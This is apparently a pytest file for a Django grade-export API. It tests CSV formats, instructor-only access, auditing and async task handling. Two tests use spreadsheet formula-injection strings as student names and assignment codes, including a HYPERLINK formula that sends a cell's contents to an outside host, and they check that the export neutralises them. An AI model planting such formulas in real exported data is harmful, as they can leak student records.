"""Grade exports through the REST contract: POST /api/v1/courses/{id}/grade-exports/ → 202, poll
GET /api/v1/grade-exports/{id}/, then …/download/. Instructors only; every export audited.

The figures are the ones worked by hand in test_totals.py (the `graded` fixture):
  ug1 Ada Lovelace (CS 4644):   PS0 75, PS1 80, HW1 95/100 = 95,    PROJECT 90, bonus 1 → 41.95
  gr1 Grace Hopper (CS 7643-A): PS0 76, PS1 80, HW1 95/110 = 86.36, PROJECT 90, bonus 1 → 41.17
  ug2 Alan Turing (CS 4644):    PS0 90, PS1 70, HW1 missing = 0,    PROJECT 60, bonus 0 → 23.10
"""

from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from courses.models import AuditEvent, StaffRole
from grading.models import GradeExport
from grading.services import exports
from tests.conftest import wait_for
from tests.courses.helpers import grant_extension
from tests.factories import EnrolmentFactory, SectionFactory, StaffRoleFactory, UserFactory
from tests.grading.exports.conftest import error_of, parse_csv

SIS = {"ug1": "0901234", "ug2": "0000042", "gr1": "0907643"}


@pytest.fixture
def course_data(graded):
    w = graded.world
    for username, sis_id in SIS.items():
        user = getattr(w, username)
        user.sis_id = sis_id
        user.save(update_fields=["sis_id"])
    return graded


def start(api, user, course, fmt: str, capture):
    """POST the export; the task runs when the request's transaction commits (eager in tests)."""
    with capture(execute=True):
        response = api.as_user(user).post(
            reverse("api-grade-exports", args=[course.id]), {"format": fmt}, format="json"
        )
    return response


def export_csv(api, user, course, fmt: str, capture) -> list[list[str]]:
    response = start(api, user, course, fmt, capture)
    assert response.status_code == 202, response.content
    status = api.as_user(user).get(response.json()["status_url"]).json()
    assert (status["status"], status["progress"]) == ("done", 100), status
    download = api.as_user(user).get(status["download_url"])
    assert download.status_code == 200
    return parse_csv(b"".join(download.streaming_content))


def by_login(rows, column: int) -> dict[str, list[str]]:
    return {row[column]: row for row in rows}


# ---- the Canvas format ---------------------------------------------------------------------------


def test_canvas_export_runs_with_progress_and_downloads(course_data, api, django_capture_on_commit_callbacks):
    w = course_data.world
    course = course_data.course
    response = start(api, w.instructor, course, "canvas", django_capture_on_commit_callbacks)
    assert response.status_code == 202, response.content
    job = response.json()
    assert job["format"] == "canvas" and job["requested_by"] == "instructor"
    assert 0 <= job["progress"] <= 100 and job["status"] in ("queued", "running", "done")
    assert job["status_url"] == reverse("api-grade-export", args=[job["id"]])

    status = api.as_user(w.instructor).get(job["status_url"])
    assert status.status_code == 200
    body = status.json()
    assert (body["status"], body["progress"], body["rows_total"], body["rows_done"]) == ("done", 100, 3, 3)
    assert body["download_url"] == reverse("api-grade-export-download", args=[job["id"]])
    assert body["finished_at"] and body["error"] == ""

    download = api.as_user(w.instructor).get(body["download_url"])
    assert download.status_code == 200
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    assert download["Content-Disposition"].startswith('attachment; filename="grades-canvas-')
    rows = parse_csv(b"".join(download.streaming_content))

    a = {x.code: x for x in course.assignments.all()}
    assert rows[0] == [
        "Student",
        "ID",
        "SIS User ID",
        "SIS Login ID",
        "Section",
        f"Problem set 0 ({a['PS0'].id})",
        f"Problem set 1 ({a['PS1'].id})",
        f"Homework 1 ({a['HW1'].id})",
        f"Final project ({a['PROJECT'].id})",
        f"Class participation ({a['PARTICIPATION'].id})",
        "Final Score",
    ]
    assert rows[1] == [
        "    Points Possible",
        "",
        "",
        "",
        "",
        "100.00",
        "100.00",
        "100.00",
        "100.00",
        "1.00",
        "(read only)",
    ]
    assert rows[1][0].startswith("    Points") and not rows[1][0].startswith("     ")
    # Students sorted by last name, "Last, First"; SIS IDs as text with their leading zeros. No Canvas
    # user id is known here, so `ID` is blank (test_canvas_ids.py) and Canvas matches by the SIS ids.
    assert rows[2:] == [
        ["Hopper, Grace", "", "0907643", "gr1", "CS 7643-A", "76.00", "80.00", "86.36", "90.00", "1.00", "41.17"],
        ["Lovelace, Ada", "", "0901234", "ug1", "CS 4644", "75.00", "80.00", "95.00", "90.00", "1.00", "41.95"],
        ["Turing, Alan", "", "0000042", "ug2", "CS 4644", "90.00", "70.00", "0.00", "60.00", "0.00", "23.10"],
    ]  # fmt: skip


def test_formula_like_names_and_sections_are_guarded(course_data, api, django_capture_on_commit_callbacks):
    """A spreadsheet would run a cell starting with =, +, - or @ as a formula: the export prefixes '."""
    w = course_data.world
    course = course_data.course
    evil_section = SectionFactory(course=course, code="@Section", level="graduate")
    people = {
        "eq": ("Bob", '=HYPERLINK("http://x")', w.ug_section),
        "plus": ("Ann", "+1", w.ug_section),
        "minus": ("Cy", "-Dash", w.gr_section),
        "at": ("Di", "Normal", evil_section),
    }
    for username, (first, last, section) in people.items():
        EnrolmentFactory(
            user=UserFactory(username=username, first_name=first, last_name=last), section=section
        )
    w.recompute()  # what enrolling through the services does
    rows = export_csv(api, w.instructor, course, "canvas", django_capture_on_commit_callbacks)
    found = by_login(rows[2:], 3)
    assert found["eq"][0] == '\'=HYPERLINK("http://x"), Bob'
    assert found["plus"][0] == "'+1, Ann"
    assert found["minus"][0] == "'-Dash, Cy"
    assert found["at"][0] == "Normal, Di" and found["at"][4] == "'@Section"
    for row in rows[2:]:
        for cell in row[:5]:
            assert not cell.startswith(("=", "+", "-", "@")), row
    # Scores are numbers, never guarded: a student with nothing graded exports 0.00 for closed work.
    assert found["at"][5:] == ["0.00", "0.00", "0.00", "0.00", "", "0.00"]


@pytest.mark.parametrize("fmt", ["canvas", "breakdown"])
def test_formula_like_assignment_codes_and_titles_are_guarded_in_the_header(
    course_data, api, fmt, django_capture_on_commit_callbacks
):
    """An assignment's code and title are the course's free text (typed by an instructor or a program):
    a header cell like `=HYPERLINK("//e.vl/"&C3,"x")&" raw` would send a student's cell elsewhere."""
    w = course_data.world
    response = api.as_user(w.instructor).post(
        reverse("api-course-assignments", args=[course_data.course.id]),
        {"code": '=HYPERLINK("//e.vl/"&C3,"x")&"', "title": '=1+1&"', "category": "homework", "points": "10"},
        format="json",
    )
    assert response.status_code == 201, response.content
    rows = export_csv(api, w.instructor, course_data.course, fmt, django_capture_on_commit_callbacks)
    header = rows[0]
    assert any(cell.startswith("'=") for cell in header), header
    assert [cell for cell in header if cell.startswith(("=", "+", "-", "@"))] == []


# ---- the breakdown format ------------------------------------------------------------------------


def test_breakdown_export_shows_every_part_of_the_total(course_data, api, django_capture_on_commit_callbacks):
    w = course_data.world
    rows = export_csv(api, w.instructor, course_data.course, "breakdown", django_capture_on_commit_callbacks)
    header = rows[0]
    expected = ["Student", "Username", "SIS User ID", "Section"]
    for code in ("PS0", "PS1", "HW1", "PROJECT", "PARTICIPATION"):
        expected += [f"{code} raw", f"{code} possible", f"{code} late", f"{code} final %"]
    expected += [
        "Problem set (of 9.00%)",
        "Homework (of 9.00%)",
        "Final project (of 28.00%)",
        "Bonus",
        "Total %",
        "Graded so far %",
        "May not be prepared",
    ]
    assert header == expected
    found = by_login(rows[1:], 1)
    assert found["ug1"] == [
        "Lovelace, Ada", "ug1", "0901234", "CS 4644",
        "75.00", "100.00", "submitted", "75.00",
        "80.00", "100.00", "submitted", "80.00",
        "95.00", "100.00", "submitted", "95.00",
        "90.00", "100.00", "submitted", "90.00",
        "1.00", "1.00", "", "100.00",
        "7.20", "8.55", "25.20",
        "1.00", "41.95", "89.02", "yes",  # PS0 at 75 %: at or under the threshold
    ]  # fmt: skip
    assert found["gr1"] == [
        "Hopper, Grace", "gr1", "0907643", "CS 7643-A",
        "76.00", "100.00", "submitted", "76.00",
        "80.00", "100.00", "submitted", "80.00",
        "95.00", "110.00", "submitted", "86.36",  # Q4 is required for CS 7643-A
        "90.00", "100.00", "submitted", "90.00",
        "1.00", "1.00", "", "100.00",
        "7.20", "7.77", "25.20",
        "1.00", "41.17", "87.33", "",
    ]  # fmt: skip
    assert found["ug2"] == [
        "Turing, Alan", "ug2", "0000042", "CS 4644",
        "90.00", "100.00", "submitted", "90.00",
        "70.00", "100.00", "submitted", "70.00",
        "110.00", "100.00", "missing", "0.00",  # full marks entered, nothing submitted: 0
        "60.00", "100.00", "submitted", "60.00",
        "0.00", "1.00", "", "0.00",
        "6.30", "0.00", "16.80",
        "0.00", "23.10", "50.22", "",
    ]  # fmt: skip


@pytest.mark.parametrize("fmt", ["canvas", "breakdown"])
def test_an_export_counts_an_extension_whose_recompute_waits_in_the_outbox(
    course_data, api, django_capture_on_commit_callbacks, fmt
):
    """ug2's HW1 window had closed with nothing submitted when the instructor granted an extension to
    three days from now; its recompute still waits in the outbox when the export runs. The export brings
    the course's stored deadlines up to date first: HW1 is open, its 110 % counts (9 % x 1.10 = 9.90),
    and ug2's total is 23.10 + 9.90 = 33.00 rather than 23.10."""
    w = course_data.world
    with django_capture_on_commit_callbacks(execute=False):  # the recompute is never run here
        grant_extension(api, w.instructor, w.ug2, course_data.hw1, timezone.now() + timedelta(days=3))
    rows = export_csv(api, w.instructor, course_data.course, fmt, django_capture_on_commit_callbacks)
    if fmt == "canvas":
        assert by_login(rows[2:], 3)["ug2"][7:] == ["110.00", "60.00", "0.00", "33.00"]
    else:
        ug2 = by_login(rows[1:], 1)["ug2"]
        assert ug2[12:16] == ["110.00", "100.00", "pending", "110.00"]
        assert ug2[-3] == "33.00"


# ---- who may export, and the trail it leaves -----------------------------------------------------


def test_every_export_is_audited_with_who_asked(course_data, api, django_capture_on_commit_callbacks):
    w = course_data.world
    for fmt in ("canvas", "breakdown"):
        assert (
            start(api, w.instructor, course_data.course, fmt, django_capture_on_commit_callbacks).status_code
            == 202
        )
    made = list(GradeExport.objects.filter(course=course_data.course).order_by("id"))
    assert [(e.format, e.requested_by_id, e.status) for e in made] == [
        ("canvas", w.instructor.id, "done"),
        ("breakdown", w.instructor.id, "done"),
    ]
    events = AuditEvent.objects.filter(action="grades.export").order_by("id")
    assert [(e.actor_id, e.course_id, e.target, e.data) for e in events] == [
        (w.instructor.id, course_data.course.id, "canvas", {"export_id": made[0].id}),
        (w.instructor.id, course_data.course.id, "breakdown", {"export_id": made[1].id}),
    ]


def test_only_the_courses_instructors_export(course_data, api, django_capture_on_commit_callbacks):
    w = course_data.world
    course = course_data.course
    url = reverse("api-grade-exports", args=[course.id])
    for user, status in ((w.ta, 403), (w.ug1, 403), (w.other_ta, 404), (w.other_student, 404)):
        response = api.as_user(user).post(url, {"format": "canvas"}, format="json")
        assert response.status_code == status, user
        error_of(response)
    assert not GradeExport.objects.exists()
    assert not AuditEvent.objects.filter(action="grades.export").exists()

    response = start(api, w.instructor, course, "canvas", django_capture_on_commit_callbacks)
    export_id = response.json()["id"]
    for user in (w.ta, w.ug1, w.other_ta, w.other_student):
        assert api.as_user(user).get(reverse("api-grade-export", args=[export_id])).status_code == 404
        assert (
            api.as_user(user).get(reverse("api-grade-export-download", args=[export_id])).status_code == 404
        )


def test_another_courses_export_is_not_found(course_data, api, django_capture_on_commit_callbacks):
    w = course_data.world
    other_instructor = StaffRoleFactory(
        user=UserFactory(username="other_instructor"), course=w.other_course, role=StaffRole.Role.INSTRUCTOR
    ).user
    response = start(api, other_instructor, w.other_course, "canvas", django_capture_on_commit_callbacks)
    assert response.status_code == 202
    export_id = response.json()["id"]
    assert api.as_user(w.instructor).get(reverse("api-grade-export", args=[export_id])).status_code == 404
    response = api.as_user(w.instructor).get(reverse("api-grade-export-download", args=[export_id]))
    assert response.status_code == 404
    # …and our instructor cannot start one there either.
    response = api.as_user(w.instructor).post(
        reverse("api-grade-exports", args=[w.other_course.id]), {"format": "canvas"}, format="json"
    )
    assert response.status_code == 404


def test_an_unknown_format_is_refused(course_data, api):
    response = api.as_user(course_data.world.instructor).post(
        reverse("api-grade-exports", args=[course_data.course.id]), {"format": "xlsx"}, format="json"
    )
    assert response.status_code == 400
    assert "format" in error_of(response)["fields"]
    assert not GradeExport.objects.exists()


def test_download_before_the_export_is_done_is_a_conflict(course_data, api):
    """Without the commit (the task has not run), the export is queued: the download answers 409."""
    w = course_data.world
    response = api.as_user(w.instructor).post(
        reverse("api-grade-exports", args=[course_data.course.id]), {"format": "canvas"}, format="json"
    )
    assert response.status_code == 202
    job = response.json()
    assert (job["status"], job["progress"], job["download_url"]) == ("queued", 0, None)
    response = api.as_user(w.instructor).get(reverse("api-grade-export-download", args=[job["id"]]))
    assert response.status_code == 409
    assert error_of(response)["code"] == "conflict"


def test_a_failed_export_says_so_and_can_run_again(course_data, api, monkeypatch):
    w = course_data.world
    export = exports.grade_export_request(
        acting_user=w.instructor, course_id=course_data.course.id, format="canvas"
    )

    def broken(export, claim):
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "_write", broken)
    assert exports.grade_export_run(export_id=export.id) == "failed"
    body = api.as_user(w.instructor).get(reverse("api-grade-export", args=[export.id])).json()
    assert body["status"] == "failed" and "RuntimeError" in body["error"] and body["download_url"] is None
    assert (
        api.as_user(w.instructor).get(reverse("api-grade-export-download", args=[export.id])).status_code
        == 409
    )
    # A finished job is not run twice (a redelivered task changes nothing).
    monkeypatch.undo()
    assert exports.grade_export_run(export_id=export.id) == "failed"


def test_running_a_done_export_again_changes_nothing(course_data, api, django_capture_on_commit_callbacks):
    w = course_data.world
    response = start(api, w.instructor, course_data.course, "canvas", django_capture_on_commit_callbacks)
    export = GradeExport.objects.get(pk=response.json()["id"])
    assert exports.grade_export_run(export_id=export.id) == "done"
    again = GradeExport.objects.get(pk=export.id)
    assert (again.file.name, again.finished_at) == (export.file.name, export.finished_at)


def test_the_exports_page_is_for_instructors(course_data, client):
    w = course_data.world
    url = reverse("grade-exports", args=[course_data.course.id])
    client.force_login(w.instructor)
    html = client.get(url).content.decode()
    assert 'id="export-progress"' in html and "Export for Canvas" in html
    for user in (w.ta, w.ug1, w.other_ta):
        client.force_login(user)
        assert client.get(url).status_code == 404


# ---- a real worker -------------------------------------------------------------------------------


@pytest.fixture
def shared_media(tmp_path, monkeypatch, settings):
    """The worker process and this one store and read export files in the same folder."""
    monkeypatch.setenv("DJANGO_MEDIA_ROOT", str(tmp_path))
    settings.MEDIA_ROOT = tmp_path
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.FileSystemStorage"},
    }
    return tmp_path


@pytest.fixture
def worker(shared_media, celery_worker_process):
    return celery_worker_process


@pytest.mark.worker
def test_the_export_runs_in_a_real_worker(course_data, api, worker, shared_media):
    """POST enqueues on commit; the worker on Redis writes the file; the API reports it done."""
    w = course_data.world
    response = api.as_user(w.instructor).post(
        reverse("api-grade-exports", args=[course_data.course.id]), {"format": "canvas"}, format="json"
    )
    assert response.status_code == 202, response.content
    status_url = response.json()["status_url"]

    def finished():
        body = api.as_user(w.instructor).get(status_url).json()
        return body if body["status"] in ("done", "failed") else None

    body = wait_for(finished, timeout=60)
    assert (body["status"], body["progress"], body["rows_total"]) == ("done", 100, 3), body
    export = GradeExport.objects.get(pk=body["id"])
    assert export.started_at is not None and (shared_media / export.file.name).exists()
    download = api.as_user(w.instructor).get(body["download_url"])
    rows = parse_csv(b"".join(download.streaming_content))
    assert rows[1][0] == "    Points Possible"
    assert by_login(rows[2:], 3)["gr1"][-1] == "41.17"
